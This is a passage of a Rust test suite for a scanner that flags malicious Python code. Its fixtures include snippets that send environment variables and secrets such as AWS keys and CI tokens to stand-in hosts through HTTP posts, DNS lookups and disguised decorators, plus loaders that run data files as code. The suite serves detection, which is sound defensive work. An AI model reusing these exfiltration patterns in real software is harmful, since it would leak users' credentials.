    // nor is marshal.load of a .pyc (coverage's execfile).
    assert_quiet(&scan(
        "import pickle\nwith open('c.pkl', 'rb') as f:\n    pickle.loads(f.read())\n",
    ));
    assert_quiet(&scan(
        "import pickle\ndef call(q):\n    res = q.get()\n    if res:\n        res = pickle.loads(res)\n    return res\n",
    ));
    assert_quiet(&scan(
        "import marshal\ndef code_of(p):\n    with open(p, 'rb') as f:\n        f.read(16)\n        code = marshal.load(f)\n    return code\ndef run(p, g):\n    exec(code_of(p), g)\n",
    ));
}

#[test]
fn dns_lookup_of_environment_is_network() {
    let s = scan(
        r#"import os, socket
for v in os.environ.values():
    socket.gethostbyname(v.encode().hex() + ".x.invalid")
"#,
    );
    assert!(
        s.capabilities.contains(&Capability::Network),
        "{:?}",
        caps(&s)
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 3).severity,
        Severity::High
    );
}

#[test]
fn m1_through_attributes_bound_on_the_class_and_self() {
    let s = scan(
        r#"import os, base64, requests
class C:
    env = os.environ
    def __init__(self):
        self.send = requests.post
    def go(self):
        data = base64.b64encode(str(dict(self.env)).encode())
        self.send("https://x.invalid/", data=data)
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 8).severity,
        Severity::High
    );
}

// RT13-03: loaders run files as code.

#[test]
fn loaders_are_dynamic_code_and_name_their_files() {
    for (src, file) in [
        (
            "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n",
            "cfg.dat",
        ),
        (
            "import importlib.machinery\nimportlib.machinery.SourceFileLoader('m', 'pkg/data.txt').exec_module(None)\n",
            "data.txt",
        ),
        (
            "import importlib.util as u\np = __file__.replace('mod.py', 'x.bin')\nspec = u.spec_from_file_location('x', p)\nspec.loader.exec_module(u.module_from_spec(spec))\n",
            "x.bin",
        ),
        (
            "import zipimport\nzipimport.zipimporter('bundle.zip').load_module('m')\n",
            "bundle.zip",
        ),
    ] {
        let s = scan(src);
        assert!(
            s.capabilities.contains(&Capability::DynamicCode),
            "{src}: {:?}",
            caps(&s)
        );
        assert!(s.loaded_files.contains(file), "{src}: {:?}", s.loaded_files);
    }
}

// RT13-02: data flows between functions.

#[test]
fn m1_across_functions_of_one_file() {
    let s = scan(
        r#"import os, base64, requests
def collect():
    return " ".join(os.environ.values())
def enc(s):
    return base64.b64encode(s.encode()).decode()
def send(d):
    requests.get("https://x.invalid/?q=" + d)
class Ctx(dict):
    def __init__(self):
        send(enc(collect()))
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 10).severity,
        Severity::High
    );
}

#[test]
fn m1_through_a_chain_of_senders() {
    let s = scan(
        r#"import os, requests
def post(d):
    requests.post("https://x.invalid/", data=d)
def send(d):
    post(d)
def main():
    send(os.environ.get("AWS_SECRET_ACCESS_KEY"))
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 7).severity,
        Severity::Medium
    );
}

#[test]
fn proxy_from_environment_through_a_helper_is_not_m1() {
    // B3: the environment configures the client, it is not what is sent.
    assert_quiet(&scan(
        r#"import os, requests
def fetch(url, proxy):
    return requests.get(url, proxies={"https": proxy})
fetch("https://example.org/", os.environ.get("HTTPS_PROXY"))
"#,
    ));
}

#[test]
fn m1_a_decorator_that_sends_what_the_function_returns() {
    let s = scan(
        r#"import os, requests
def report(fn):
    def wrapper(*a, **kw):
        r = fn(*a, **kw)
        requests.post("https://collector.invalid/r", data=r, timeout=3)
        return r
    return wrapper

@report
def collect():
    return dict(os.environ)
"#,
    );
    assert_finding(&s, Rule::EnvExfiltration, Severity::High, 9, "@report");
    // One named value: medium, as sending it directly would be.
    let s = scan(
        r#"import os, requests
def report(fn):
    def wrapper():
        requests.post("https://collector.invalid/r", json={"v": fn()})
    return wrapper

@report
def token():
    return os.environ.get("CI_JOB_TOKEN")
"#,
    );
    assert_finding(&s, Rule::EnvExfiltration, Severity::Medium, 7, "@report");
}

#[test]
fn m1_a_decorator_factory_and_a_decorator_that_sends_at_once() {
    let s = scan(
        r#"import os, base64, urllib.request
def telemetry(url):
    def deco(fn):
        def wrapper():
            out = fn()
            blob = base64.b64encode(str(out).encode())
            urllib.request.urlopen(url + blob.decode())
            return out
        return wrapper
    return deco

@telemetry("https://t.invalid/?d=")
def environment():
    return os.environ.copy()
"#,
    );
    assert_finding(
        &s,
        Rule::EnvExfiltration,
        Severity::High,
        12,
        "@telemetry(\"https://t.invalid/?d=\")",
    );
    let s = scan(
        r#"import os, requests
def register(fn):
    requests.post("https://x.invalid/", data=fn())
    return fn

@register
def settings():
    return {k: v for k, v in os.environ.items()}
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 6).severity,
        Severity::High
    );
}

#[test]
fn decorators_that_time_cache_or_send_other_things_are_quiet() {
    // Sends a timing, not the result; the wrapped function reads the environment.
    let s = scan(
        r#"import os, time, requests
def timed(fn):
    def wrapper(*a):
        t = time.time()
        r = fn(*a)
        requests.post("https://metrics.invalid/", json={"ms": time.time() - t})
        return r
    return wrapper

@timed
def home():
    return os.environ.get("HOME")
"#,
    );
    assert!(
        !s.findings.iter().any(|f| f.rule == Rule::EnvExfiltration),
        "{:#?}",
        s.findings
    );
    // Sends the result, but the function returns nothing of the environment.
    let s = scan(
        r#"import requests
def remote_cache(fn):
    def wrapper(*a):
        r = fn(*a)
        requests.put("https://cache.invalid/k", data=r)
        return r
    return wrapper

@remote_cache
def compute(x):
    return x * 2
"#,
    );
    assert_quiet(&s);
}
